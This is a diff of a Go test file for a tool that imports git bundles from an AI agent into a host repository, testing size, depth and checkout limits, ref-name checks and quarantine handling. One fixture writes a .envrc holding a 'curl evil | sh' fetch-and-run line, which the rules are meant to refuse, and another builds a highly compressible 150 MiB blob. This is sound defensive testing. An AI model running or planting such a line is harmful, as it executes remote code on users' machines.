@@ -5,6 +5,7 @@ import (
 	"crypto/sha1"
 	"encoding/hex"
 	"fmt"
+	"io"
 	"os"
 	"path/filepath"
 	"strconv"
@@ -168,6 +169,39 @@ func TestRefusedObjectsStayOut(t *testing.T) {
 	}
 }
 
+// TestRefusedObjectsStayOutBesideAccepted: the objects of a branch refused
+// by a limit, or by the rules, stay out when another branch is written.
+func TestRefusedObjectsStayOutBesideAccepted(t *testing.T) {
+	for _, c := range []struct{ name, path, content, why string }{
+		{"limit", "big.bin", strings.Repeat("b", 1<<20), "limit 0.5 MiB"},
+		{"rules", ".envrc", "curl evil | sh # unique 2b7e\n", "direnv"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			isolate(t)
+			host := newHost(t)
+			agent := newAgent(t, host)
+			branch(t, agent, "bad")
+			commitFiles(t, agent, map[string]string{c.path: c.content}, "bad")
+			bad := gitT(t, agent, "rev-parse", "HEAD:"+c.path)
+			branch(t, agent, "ok")
+			commitFiles(t, agent, map[string]string{"ok.txt": "fine\n"}, "ok")
+			ok := gitT(t, agent, "rev-parse", "HEAD:ok.txt")
+			res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: bundleOf(t, agent), Limits: Limits{ObjectSize: 1 << 19}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			wantRefused(t, host, byName(t, res, "bad"), c.path, c.why)
+			wantWritten(t, host, byName(t, res, "ok"), StatusNew)
+			if _, err := gitE(host, "cat-file", "-e", bad); err == nil {
+				t.Errorf("object %s of the refused branch is in the host's repository", bad)
+			}
+			if _, err := gitE(host, "cat-file", "-e", ok); err != nil {
+				t.Errorf("the accepted blob is not in the host's repository")
+			}
+		})
+	}
+}
+
 // treeBuilder computes tree objects in Go (a chain of 4,000 trees through
 // git mktree would take 4,000 processes) and writes them with one git
 // hash-object.
@@ -222,11 +256,13 @@ func commitTree(t *testing.T, repo, name, tree string) string {
 }
 
 // chain builds n directories named d, each in the one above, with a file at
-// the bottom, and returns the trees from the bottom up.
-func chain(b *treeBuilder, n int, blob string) []string {
+// the bottom, and returns the trees from the bottom up. mode is the
+// directories' mode: 40000, or 040000 (which git takes and fsck only warns
+// about).
+func chain(b *treeBuilder, n int, blob, mode string) []string {
 	trees := []string{b.tree(treeEntry{"100644", "f", blob})}
 	for len(trees) < n {
-		trees = append(trees, b.tree(treeEntry{"40000", "d", trees[len(trees)-1]}))
+		trees = append(trees, b.tree(treeEntry{mode, "d", trees[len(trees)-1]}))
 	}
 	return trees
 }
@@ -241,7 +277,8 @@ func TestLimits(t *testing.T) {
 	b := newTreeBuilder(t)
 
 	// 4,000 directories deep: git 2.39's checkout crashes on it.
-	deep := chain(b, 4000, blob)
+	deep := chain(b, 4000, blob, "40000")
+	padded := chain(b, 4000, blob, "040000")
 	// The same chain with every one of its trees also at the top: no
 	// object is first met deeper than two directories.
 	var all []treeEntry
@@ -255,12 +292,24 @@ func TestLimits(t *testing.T) {
 		long = b.tree(treeEntry{"40000", strings.Repeat("n", 120), long})
 	}
 	// Within the limits: 100 deep.
-	fine := chain(b, 100, blob)[99]
+	fine := chain(b, 100, blob, "40000")[99]
+	// One directory of 20 entries that each name a directory of 20 that
+	// each name a directory of 20 files: 8,000 files from 3 trees.
+	many := b.tree(treeEntry{"100644", "f", blob})
+	for range 3 {
+		var es []treeEntry
+		for i := range 20 {
+			es = append(es, treeEntry{"40000", fmt.Sprintf("%02d", i), many})
+		}
+		many = b.tree(es...)
+	}
 	b.write(agent)
 	commitTree(t, agent, "deep", deep[len(deep)-1])
 	commitTree(t, agent, "deep-shortcut", shortcut)
 	commitTree(t, agent, "long-path", long)
 	commitTree(t, agent, "fine-depth", fine)
+	commitTree(t, agent, "deep-padded", padded[len(padded)-1])
+	commitTree(t, agent, "many-files", many)
 
 	branch(t, agent, "big-blob")
 	commitFiles(t, agent, map[string]string{"big.bin": strings.Repeat("\x00", 3<<20)}, "3 MiB")
@@ -273,10 +322,18 @@ func TestLimits(t *testing.T) {
 		files[fmt.Sprintf("w%03d", i)] = "same\n"
 	}
 	commitFiles(t, agent, files, "250 entries in one tree")
+	branch(t, agent, "checkout-size")
+	commitFiles(t, agent, map[string]string{"a/one.bin": strings.Repeat("z", 1<<20)}, "1 MiB")
+	a := gitT(t, agent, "rev-parse", "HEAD:a")
+	gitT(t, agent, "read-tree", "--prefix=b/", a) // a second name, no new object
+	for _, p := range []string{"c/", "d/", "e/", "f/"} {
+		gitT(t, agent, "read-tree", "--prefix="+p, a)
+	}
+	gitT(t, agent, "commit", "-qm", "six copies")
 	branch(t, agent, "ok")
 	commitFiles(t, agent, map[string]string{"ok.txt": strings.Repeat("o", 1<<20)}, "1 MiB")
 
-	limits := Limits{ObjectSize: 2 << 20, TotalSize: 5 << 20 / 2, TreeEntries: 200}
+	limits := Limits{ObjectSize: 2 << 20, TotalSize: 5 << 20 / 2, TreeEntries: 200, CheckoutFiles: 5000, CheckoutSize: 5 << 20}
 	res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: bundleOf(t, agent), Limits: limits})
 	if err != nil {
 		t.Fatal(err)
@@ -288,14 +345,17 @@ func TestLimits(t *testing.T) {
 		{"big-blob", "big.bin", "3.0 MiB once inflated (limit 2.0 MiB)"},
 		{"total", "", "3.0 MiB once inflated (limit 2.5 MiB)"},
 		{"deep-shortcut", "", "4000 entries (limit 200)"},
+		{"deep-padded", "", "zeroPaddedFilemode"}, // git's fsck refuses it before the limits see it
+		{"many-files", "", "makes 8,000 files (limit 5000)"},
+		{"checkout-size", "", "writes 6.0 MiB (limit 5.0 MiB)"},
 		{"wide", "", "252 entries (limit 200)"},
 	} {
 		t.Run(c.branch, func(t *testing.T) { wantRefused(t, host, byName(t, res, c.branch), c.path, c.why) })
 	}
 	wantWritten(t, host, byName(t, res, "ok"), StatusNew)
 	wantWritten(t, host, byName(t, res, "fine-depth"), StatusNew)
-	if res.Refused() != 6 {
-		t.Errorf("%d refused, want 6", res.Refused())
+	if res.Refused() != 9 {
+		t.Errorf("%d refused, want 9", res.Refused())
 	}
 }
 
@@ -323,4 +383,94 @@ func TestObjectLimit(t *testing.T) {
 	}
 	wantRefused(t, host, byName(t, res, "objects"), "", "the branch brings 313 new objects (limit 250)")
 	wantWritten(t, host, byName(t, res, "small"), StatusNew)
+}
+
+// TestCompressibleBlob: a blob of zeros over DefaultLimits.ObjectSize,
+// about a thousand times smaller packed, is refused and stays out of the
+// host's repository.
+func TestCompressibleBlob(t *testing.T) {
+	if testing.Short() {
+		t.Skip("writes a 150 MiB blob")
+	}
+	isolate(t)
+	host := newHost(t)
+	agent := newAgent(t, host)
+	cmd := gitCmd(agent, "hash-object", "-w", "--stdin")
+	cmd.Stdin = io.LimitReader(zeros{}, 150<<20)
+	out, err := cmd.Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	blob := strings.TrimSpace(string(out))
+	c := commitTree(t, agent, "zeros", mktree(t, agent, "100644 blob "+blob+"\tzeros.bin\n"))
+	bundle := bundleOf(t, agent)
+	if fi, err := os.Stat(bundle); err != nil || fi.Size() > 1<<20 {
+		t.Fatalf("bundle: %v, %d bytes", err, fi.Size())
+	}
+	res := fetchT2(t, host, bundle)
+	wantRefused(t, host, byName(t, res, "zeros"), "zeros.bin", "a blob of 150.0 MiB once inflated (limit 100.0 MiB)")
+	for _, id := range []string{c, blob} {
+		if _, err := gitE(host, "cat-file", "-e", id); err == nil {
+			t.Errorf("object %s of the refused branch is in the host's repository", id)
+		}
+	}
+}
+
+type zeros struct{}
+
+func (zeros) Read(p []byte) (int, error) {
+	clear(p)
+	return len(p), nil
+}
+
+// TestValidRefName: validRefName agrees with git check-ref-format.
+func TestValidRefName(t *testing.T) {
+	isolate(t)
+	for _, name := range []string{
+		"main", "feature/x", "a.b", "a-b_c", "v1.2", "x@y", "@", "a/@", "café", "a b", "a~1", "a^", "a:b", "a?", "a*", "a[",
+		"a\\b", "a..b", ".a", "a/.b", "a.", "a/", "/a", "a//b", "a.lock", "a.lock/b", "a@{1}", "a\x7f", "a\x01",
+		"-a", "a/-b", "HEAD", "a.lock.b", "...", "a/./b", "a@", "@{", "x/@",
+	} {
+		ref := "refs/heads/" + name
+		_, err := gitE(".", "check-ref-format", ref)
+		if got, want := validRefName(ref), err == nil; got != want {
+			t.Errorf("validRefName(%q) = %v, git says %v", ref, got, want)
+		}
+	}
+}
+
+// TestAcceptedPackMovedIn: when every branch is accepted, the quarantine's
+// pack is moved into the host's object store rather than fetched twice;
+// when one is refused, the accepted ones are fetched and the refused one's
+// objects stay out.
+func TestAcceptedPackMovedIn(t *testing.T) {
+	isolate(t)
+	host := newHost(t)
+	agent := newAgent(t, host)
+	branch(t, agent, "one")
+	commitFiles(t, agent, map[string]string{"one.txt": "1\n"}, "one")
+	branch(t, agent, "two")
+	c := commitFiles(t, agent, map[string]string{"two.txt": "2\n"}, "two")
+	trace := filepath.Join(t.TempDir(), "trace")
+	t.Setenv("GIT_TRACE", trace)
+	res := fetchT(t, host, agent, Policy{})
+	t.Setenv("GIT_TRACE", "")
+	wantWritten(t, host, byName(t, res, "one"), StatusNew)
+	wantWritten(t, host, byName(t, res, "two"), StatusNew)
+	data, err := os.ReadFile(trace)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := strings.Count(string(data), "built-in: git fetch "); n != 1 {
+		t.Errorf("%d fetches, want 1 (into the quarantine)", n)
+	}
+	if out := gitT(t, host, "fsck", "--connectivity-only", "--no-dangling"); out != "" {
+		t.Errorf("git fsck: %s", out)
+	}
+	if _, err := gitE(host, "cat-file", "-e", c+":two.txt"); err != nil {
+		t.Errorf("the accepted objects are not in the host's repository")
+	}
+	if left, _ := filepath.Glob(filepath.Join(host, ".git", "objects", quarantinePattern)); len(left) > 0 {
+		t.Errorf("quarantine left behind: %v", left)
+	}
 }
